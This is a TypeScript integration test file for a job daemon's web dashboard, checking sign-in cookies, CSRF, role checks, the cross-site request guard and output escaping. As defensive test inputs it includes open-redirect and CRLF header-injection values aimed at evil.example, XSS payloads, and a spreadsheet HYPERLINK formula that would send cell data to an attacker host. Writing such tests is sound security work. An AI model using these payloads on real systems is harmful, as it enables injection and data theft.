import { OPERATOR_TOKEN, VIEWER_TOKEN, startStack, type Stack } from '../http/harness';
import { eventually } from '../support/workspace';
import { csrfIn, dashboardClient, signIn, type DashboardClient } from './dashboard-client';

/**
 * The dashboard over real HTTP (a real daemon on a free loopback port): sign-in and its cookie, CSRF
 * on every form, viewers refused, the request guard, and untrusted text escaped on every page.
 */
describe('dashboard (HTTP)', () => {
  let stack: Stack;
  let operator: DashboardClient;
  let viewer: DashboardClient;

  beforeAll(async () => {
    stack = await startStack();
    operator = dashboardClient(stack);
    viewer = dashboardClient(stack);
    await signIn(operator, OPERATOR_TOKEN);
    await signIn(viewer, VIEWER_TOKEN);
  });
  afterAll(async () => {
    await stack.stop();
  });

  describe('sign-in', () => {
    it('sends a browser without a session to the sign-in page, and back where it was going', async () => {
      const res = await dashboardClient(stack).get('/ui/runs?status=failed');
      expect(res.status).toBe(303);
      expect(res.headers.get('location')).toBe('/ui/sign-in?next=%2Fui%2Fruns%3Fstatus%3Dfailed');
      const page = await dashboardClient(stack).get('/ui/sign-in?next=%2Fui%2Fruns%3Fstatus%3Dfailed');
      expect(page.body).toContain('name="next" value="/ui/runs?status=failed"');
    });

    it('keeps the token in an HttpOnly, SameSite=Strict cookie for /ui only; Secure behind TLS', async () => {
      const client = dashboardClient(stack);
      const res = await signIn(client, OPERATOR_TOKEN);
      const [cookie] = res.headers.getSetCookie();
      expect(cookie).toBe(`sweeper_session=${OPERATOR_TOKEN}; Path=/ui; HttpOnly; SameSite=Strict`);
      const csrf = await client.csrfOf('/ui/sign-in');
      const tls = await client.post(
        '/ui/sign-in',
        { csrf, token: OPERATOR_TOKEN },
        { 'x-forwarded-proto': 'https' },
      );
      expect(tls.headers.getSetCookie()[0]).toMatch(/; HttpOnly; SameSite=Strict; Secure$/);
      expect((await client.get('/ui/jobs')).status).toBe(200);
    });

    it('refuses a token that is not one of http.tokens, and a sign-in form without its CSRF token', async () => {
      const client = dashboardClient(stack);
      const csrf = await client.csrfOf('/ui/sign-in');
      const wrong = await client.post('/ui/sign-in', { csrf, token: 'not-a-token-0123456789' });
      expect(wrong.status).toBe(401);
      expect(wrong.body).toContain('that token is not one of http.tokens');
      expect(wrong.headers.getSetCookie()).toEqual([]);
      const forged = await client.post('/ui/sign-in', { token: OPERATOR_TOKEN });
      expect(forged.status).toBe(403);
      expect(forged.headers.getSetCookie()).toEqual([]);
    });

    it('never sends a signed-in browser to another site after sign-in', async () => {
      const client = dashboardClient(stack);
      const csrf = await client.csrfOf('/ui/sign-in');
      for (const next of [
        'https://evil.example/',
        '//evil.example/ui',
        '/api/jobs',
        '/ui\\@evil.example',
        '/ui/jobs\r\nSet-Cookie: x=1',
      ]) {
        const res = await client.post('/ui/sign-in', { csrf, token: OPERATOR_TOKEN, next });
        expect(res.headers.get('location')).toBe('/ui/jobs');
      }
    });

    it('a link followed from another site loads the page again from here (the Strict cookie was not sent with it)', async () => {
      const client = dashboardClient(stack);
      const crossSite = await client.get('/ui/runs/7', {
        'sec-fetch-site': 'cross-site',
        'sec-fetch-mode': 'navigate',
      });
      expect(crossSite.status).toBe(200);
      expect(crossSite.body).toContain('<meta http-equiv="refresh" content="0;url=/ui/runs/7"');
      // From here, still without a session: the sign-in page, no loop.
      const again = await client.get('/ui/runs/7', {
        'sec-fetch-site': 'same-origin',
        'sec-fetch-mode': 'navigate',
      });
      expect([again.status, again.headers.get('location')]).toEqual([
        303,
        '/ui/sign-in?next=%2Fui%2Fruns%2F7',
      ]);
    });

    it('a cookie with a token that is no longer valid is no session', async () => {
      const client = dashboardClient(stack);
      client.cookie = 'sweeper_session=revoked-token-0123456789';
      expect((await client.get('/ui/jobs')).status).toBe(303);
    });

    it('signing out clears the cookie (with the CSRF token of the page)', async () => {
      const client = dashboardClient(stack);
      await signIn(client, VIEWER_TOKEN);
      const csrf = await client.csrfOf('/ui/jobs');
      const res = await client.post('/ui/sign-out', { csrf });
      expect(res.status).toBe(303);
      expect(res.headers.getSetCookie()[0]).toMatch(
        /^sweeper_session=; Path=\/ui; HttpOnly; SameSite=Strict; Max-Age=0/,
      );
    });
  });

  describe('pages', () => {
    it('every page is server-rendered HTML with a strict Content-Security-Policy, and its assets come from the daemon', async () => {
      for (const path of [
        '/ui/jobs',
        '/ui/jobs/purge-parents',
        '/ui/jobs/purge-parents/preview',
        '/ui/runs',
        '/ui/failures',
      ]) {
        const res = await operator.get(path);
        expect([path, res.status]).toEqual([path, 200]);
        expect(res.headers.get('content-type')).toBe('text/html; charset=utf-8');
        expect(res.headers.get('content-security-policy')).toContain("script-src 'self'");
        expect(res.headers.get('x-frame-options')).toBe('DENY');
        expect(res.body).not.toMatch(/https?:\/\//);
      }
      expect((await operator.get('/ui/assets/dashboard.css')).headers.get('content-type')).toBe(
        'text/css; charset=utf-8',
      );
      expect((await dashboardClient(stack).get('/ui/assets/live.js')).status).toBe(200);
      expect((await operator.get('/ui/runs/999999')).status).toBe(404);
      expect((await operator.get('/ui/jobs/nope')).body).toContain('no job named &quot;nope&quot;');
    });

    it('the live parts answer alone, as the element they replace', async () => {
      const jobs = (await operator.get('/ui/jobs?part=table')).body;
      expect(jobs).toMatch(/^<div class="table-wrap" id="jobs" data-live="\/ui\/jobs\?part=table"/);
      expect(jobs).not.toContain('<html');
      const runs = (await operator.get('/ui/jobs/purge-parents?part=runs')).body;
      expect(runs).toMatch(/^<div\s+id="job-runs"\s+data-live="\/ui\/jobs\/purge-parents\?part=runs"/);
      expect(runs).not.toContain('<html');
    });

    it('a bad filter is a 400 page naming the field and what to give', async () => {
      const res = await operator.get('/ui/failures?run=abc');
      expect(res.status).toBe(400);
      expect(res.body).toContain('run &quot;abc&quot; must be a positive whole number');
      expect((await operator.get('/ui/runs?status=done')).body).toContain(
        'status &quot;done&quot; is not a run status',
      );
    });
  });

  describe('control', () => {
    it('a viewer sees no control and gets 403 for each control form, even with its own CSRF token', async () => {
      const page = (await viewer.get('/ui/jobs/slow-purge')).body;
      expect(page).not.toMatch(/action="\/ui\/jobs\/slow-purge\/(pause|resume|postpone|run)"/);
      const csrf = csrfIn(page);
      for (const path of [
        '/ui/jobs/slow-purge/pause',
        '/ui/jobs/slow-purge/resume',
        '/ui/jobs/slow-purge/postpone',
        '/ui/jobs/slow-purge/run',
        '/ui/runs/1/cancel',
      ]) {
        const res = await viewer.post(path, { csrf, confirm: 'slow-purge', until: '2099-01-01T00:00' });
        expect([path, res.status]).toEqual([path, 403]);
        expect(res.body).toContain('token &quot;dash&quot; has the role viewer');
      }
      expect(await stack.app.store.runs.list({ job: 'slow-purge' })).toEqual([]);
      expect((await stack.app.store.jobs.get('slow-purge'))!.paused).toBe(false);
    });

    it("an operator form without a CSRF token, or with another principal's, changes nothing (403)", async () => {
      const viewerCsrf = csrfIn((await viewer.get('/ui/jobs')).body);
      for (const fields of [{}, { csrf: 'x' }, { csrf: viewerCsrf }] as Record<string, string>[]) {
        const res = await operator.post('/ui/jobs/slow-purge/pause', { ...fields, reason: 'forged' });
        expect(res.status).toBe(403);
        expect(res.body).toContain('no valid CSRF token');
      }
      expect((await stack.app.store.jobs.get('slow-purge'))!.paused).toBe(false);
    });

    it('every state-changing form refuses a missing or wrong CSRF token (403) and changes nothing', async () => {
      const good = await operator.csrfOf('/ui/jobs/slow-purge');
      const viewerCsrf = csrfIn((await viewer.get('/ui/jobs')).body);
      // Of the right length and alphabet, but not made by this daemon.
      const forged = good.replace(/^./, good.startsWith('A') ? 'B' : 'A');
      const [run] = await stack.app.store.runs.list({ job: 'purge-parents', limit: 1 });
      const before = {
        runs: (await stack.app.store.runs.list({})).map((r) => [r.id, r.status]),
        job: await stack.app.store.jobs.get('slow-purge'),
        events: await stack.app.store.jobs.events('slow-purge'),
      };
      const fields = { confirm: 'slow-purge', reason: 'forged', until: '2098-01-01T00:00' };
      const forms = [
        '/ui/jobs/slow-purge/run',
        '/ui/jobs/slow-purge/pause',
        '/ui/jobs/slow-purge/resume',
        '/ui/jobs/slow-purge/postpone',
        `/ui/runs/${run?.id ?? 1}/cancel`,
        `/ui/runs/${run?.id ?? 1}/restore`,
        '/ui/sign-out',
      ];
      for (const path of forms)
        for (const csrf of [undefined, '', 'x', forged, viewerCsrf]) {
          const res = await operator.post(path, csrf === undefined ? fields : { ...fields, csrf });
          expect([path, csrf, res.status]).toEqual([path, csrf, 403]);
          expect(res.body).toContain('no valid CSRF token');
          expect(res.headers.getSetCookie()).toEqual([]);
        }
      expect((await stack.app.store.runs.list({})).map((r) => [r.id, r.status])).toEqual(before.runs);
      expect(await stack.app.store.jobs.get('slow-purge')).toEqual(before.job);
      expect(await stack.app.store.jobs.events('slow-purge')).toEqual(before.events);
      // Still signed in: the forged sign-outs cleared nothing.
      expect((await operator.get('/ui/jobs')).status).toBe(200);
    });

    it('the request guard applies: a form posted from another site is refused even with cookie and CSRF token', async () => {
      const csrf = await operator.csrfOf('/ui/jobs/slow-purge');
      const other = await operator.post(
        '/ui/jobs/slow-purge/pause',
        { csrf },
        { origin: 'http://evil.example' },
      );
      expect(other.status).toBe(403);
      const site = await operator.post(
        '/ui/jobs/slow-purge/pause',
        { csrf },
        { 'sec-fetch-site': 'cross-site' },
      );
      expect(site.status).toBe(403);
      const rebinding = await operator.get('/ui/jobs', { host: 'evil.example' });
      expect(rebinding.status).toBe(403);
      expect((await stack.app.store.jobs.get('slow-purge'))!.paused).toBe(false);
    });

    it('run now needs the job name typed: anything else deletes nothing', async () => {
      const csrf = await operator.csrfOf('/ui/jobs/purge-parents/preview');
      const res = await operator.post('/ui/jobs/purge-parents/run', { csrf, confirm: 'purge' });
      expect(res.status).toBe(400);
      expect(res.body).toContain('not confirmed: you typed &quot;purge&quot;');
      expect(await stack.app.store.runs.list({ job: 'purge-parents' })).toEqual([]);
      expect(stack.ws.target().prepare('SELECT count(*) AS n FROM parents').get()).toEqual({ n: 100 });
    });

    it('pause with a reason, resume and postpone until a local time are recorded as ui:<token name>', async () => {
      const csrf = await operator.csrfOf('/ui/jobs/slow-purge');
      const paused = await operator.post('/ui/jobs/slow-purge/pause', { csrf, reason: 'month-end freeze' });
      expect([paused.status, paused.headers.get('location')]).toEqual([303, '/ui/jobs/slow-purge']);
      const page = await operator.get('/ui/jobs/slow-purge', {
        cookie: `${operator.cookie}; ${
          paused.headers
            .getSetCookie()
            .find((c) => c.startsWith('sweeper_notice'))!
            .split(';')[0]
        }`,
      });
      expect(page.body).toContain('job slow-purge paused');
      expect(page.body).toContain('action="/ui/jobs/slow-purge/resume"');
      expect(page.body).toMatch(/action="\/ui\/jobs\/slow-purge\/resume"[\s\S]*?name="reason"/);
      expect((await operator.post('/ui/jobs/slow-purge/resume', { csrf, reason: 'freeze over' })).status).toBe(303);
      expect(
        (await operator.post('/ui/jobs/slow-purge/postpone', { csrf, until: '2098-06-01T08:30' })).status,
      ).toBe(303);
      const job = (await stack.app.store.jobs.get('slow-purge'))!;
      expect(job.paused).toBe(false);
      // The job's zone is UTC here; the form says which zone it reads the time in.
      expect(job.postponedUntil).toEqual(new Date('2098-06-01T08:30:00Z'));
      expect((await stack.app.store.jobs.events('slow-purge')).map((e) => [e.action, e.actor])).toEqual([
        ['pause', 'ui:ops'],
        ['resume', 'ui:ops'],
        ['postpone', 'ui:ops'],
      ]);
      expect((await stack.app.store.jobs.events('slow-purge')).map((e) => e.reason).slice(0, 2)).toEqual([
        'month-end freeze',
        'freeze over',
      ]);
      const bad = await operator.post('/ui/jobs/slow-purge/postpone', { csrf, until: 'next tuesday' });
      expect(bad.status).toBe(400);
      expect(bad.body).toContain('until &quot;next tuesday&quot; is not an ISO-8601 time');
    });
  });

  describe('untrusted text is escaped', () => {
    it('error messages of the target and reasons typed by operators never become markup', async () => {
      const db = stack.ws.target();
      db.exec(
        `CREATE TRIGGER no_delete BEFORE DELETE ON parents WHEN old.id = 1 BEGIN SELECT RAISE(ABORT, '<img src=x onerror=alert(1)>"'); END;
         CREATE TRIGGER formula BEFORE DELETE ON parents WHEN old.id = 2 BEGIN SELECT RAISE(ABORT, '=HYPERLINK("http://evil.example/"&A1,"open")'); END;`,
      );
      db.close();
      const csrf = await operator.csrfOf('/ui/jobs/purge-parents/preview');
      const ran = await operator.post('/ui/jobs/purge-parents/run', { csrf, confirm: 'purge-parents' });
      expect(ran.status).toBe(303);
      const id = Number(/\/ui\/runs\/(\d+)$/.exec(ran.headers.get('location')!)![1]);
      await stack.waitForRun(id, (s) => s === 'completed_with_failures');
      const reason = '"><script>alert(2)</script>';
      await operator.post('/ui/jobs/purge-parents/pause', { csrf, reason });
      for (const path of [
        `/ui/runs/${id}`,
        '/ui/failures?job=purge-parents&limit=1000',
        '/ui/jobs/purge-parents',
        '/ui/jobs',
      ]) {
        const body = (await operator.get(path)).body;
        expect(body).not.toContain('<img src=x');
        expect(body).not.toContain('<script>alert');
      }
      expect((await operator.get('/ui/failures?job=purge-parents&limit=1000')).body).toContain(
        '&lt;img src=x onerror=alert(1)&gt;&quot;',
      );
      expect((await operator.get('/ui/jobs/purge-parents')).body).toContain(
        '&quot;&gt;&lt;script&gt;alert(2)&lt;/script&gt;',
      );
      await operator.post('/ui/jobs/purge-parents/resume', { csrf });
      // The CSV download: a message that a spreadsheet would run as a formula opens as text.
      const csv = (await operator.get(`/ui/failures.csv?run=${id}`)).body;
      expect(csv).toContain(`,2,SQLITE_CONSTRAINT_TRIGGER,"'=HYPERLINK(""http://evil.example/""&A1,""open"")",`);
      expect(csv).not.toMatch(/,"?=/);
    });
  });

  describe('failure log', () => {
    it('pages by keyset both ways and downloads the filtered set as CSV and JSON', async () => {
      const runs = await stack.app.store.runs.list({ job: 'purge-parents' });
      const runId = runs.at(-1)!.id;
      const first = (await operator.get(`/ui/failures?run=${runId}&limit=10`)).body;
      const older = /href="([^"]+)" rel="next"/.exec(first)?.[1]?.replace(/&amp;/g, '&');
      expect(older).toMatch(/before=\d+/);
      const second = (await operator.get(older!)).body;
      expect(second).toContain('rel="prev"');
      const api = await stack.call<{ items: { id: number }[] }>(
        'GET',
        `/api/failures?run=${runId}&limit=1000`,
        { token: OPERATOR_TOKEN },
      );
      const ids = api.body.items.map((f) => f.id);
      const shown = (page: string) => [...page.matchAll(/<tr data-id="(\d+)">/g)].map((m) => Number(m[1]));
      expect(shown(first)).toEqual(ids.slice(0, 10));
      expect(shown(second)).toEqual(ids.slice(10, 20));

      const csv = await operator.get(`/ui/failures.csv?run=${runId}&code=SQLITE_CONSTRAINT_FOREIGNKEY`);
      expect(csv.headers.get('content-disposition')).toBe('attachment; filename="sweeper-failures.csv"');
      const lines = csv.body.trimEnd().split('\r\n');
      expect(lines[0]).toBe('id,runId,job,queryIndex,entity,key,code,message,at');
      expect(lines.length - 1).toBe(
        api.body.items.filter(
          (f) => (f as unknown as { code: string }).code === 'SQLITE_CONSTRAINT_FOREIGNKEY',
        ).length,
      );
      const json = await operator.get(`/ui/failures.json?run=${runId}`);
      expect(json.body).toEqual(api.body.items);
    });

    it('downloads the filtered restore failures (kind=restore) as CSV and JSON, as the API lists them', async () => {
      const runId = (await stack.app.store.runs.list({ job: 'purge-parents' })).at(-1)!.id;
      await stack.app.store.archive.addRestoreFailures(
        [1, 2, 3].map((k) => ({
          runId,
          job: 'purge-parents',
          queryIndex: 0,
          entity: 'parents',
          key: String(k),
          code: k === 3 ? 'SQLITE_CONSTRAINT_PRIMARYKEY' : 'SQLITE_CONSTRAINT_FOREIGNKEY',
          message: `cannot restore ${k}`,
        })),
        new Date(),
      );
      const page = (await operator.get(`/ui/failures?kind=restore&run=${runId}`)).body;
      expect(page).toContain(`href="/ui/failures.csv?run=${runId}&amp;kind=restore"`);
      expect(page).toContain(`href="/ui/failures.json?run=${runId}&amp;kind=restore"`);
      const filter = `run=${runId}&kind=restore&code=SQLITE_CONSTRAINT_FOREIGNKEY`;
      const api = await stack.call<{ items: { key: string }[] }>('GET', `/api/failures?${filter}`, {
        token: OPERATOR_TOKEN,
      });
      expect(api.body.items.map((f) => f.key)).toEqual(['2', '1']);
      const csv = await operator.get(`/ui/failures.csv?${filter}`);
      expect(csv.headers.get('content-disposition')).toBe('attachment; filename="sweeper-restore-failures.csv"');
      const lines = csv.body.trimEnd().split('\r\n');
      expect(lines[0]).toBe('id,runId,job,queryIndex,entity,key,code,message,at');
      expect(lines.slice(1).map((l) => l.split(',')[5])).toEqual(['2', '1']);
      expect(lines[1]).toContain(',cannot restore 2,');
      const json = await operator.get(`/ui/failures.json?${filter}`);
      expect(json.headers.get('content-disposition')).toBe('attachment; filename="sweeper-restore-failures.json"');
      expect(json.body).toEqual(api.body.items);
      expect((await operator.get('/ui/failures.csv?kind=restored')).status).toBe(400);
    });
  });
});

describe('dashboard without tokens (loopback only)', () => {
  it('is open on this machine: no sign-in, and actions are recorded as ui:anonymous', async () => {
    const stack = await startStack({ tokens: false });
    try {
      const client = dashboardClient(stack);
      const jobs = await client.get('/ui/jobs');
      expect(jobs.status).toBe(200);
      expect(jobs.body).toContain('no tokens configured');
      expect((await client.get('/ui/sign-in')).status).toBe(303);
      const csrf = await client.csrfOf('/ui/jobs/slow-purge');
      const res = await client.post('/ui/jobs/slow-purge/run', { csrf, confirm: 'slow-purge' });
      expect(res.status).toBe(303);
      const id = Number(/(\d+)$/.exec(res.headers.get('location')!)![1]);
      const cancel = await client.post(`/ui/runs/${id}/cancel`, { csrf });
      expect(cancel.status).toBe(303);
      const run = await eventually(async () => {
        const r = await stack.app.store.runs.get(id);
        return r && r.status === 'canceled' ? r : undefined;
      });
      expect((await stack.app.store.runs.events(run.id)).map((e) => e.actor)).toContain('ui:anonymous');
    } finally {
      await stack.stop();
    }
  });
});
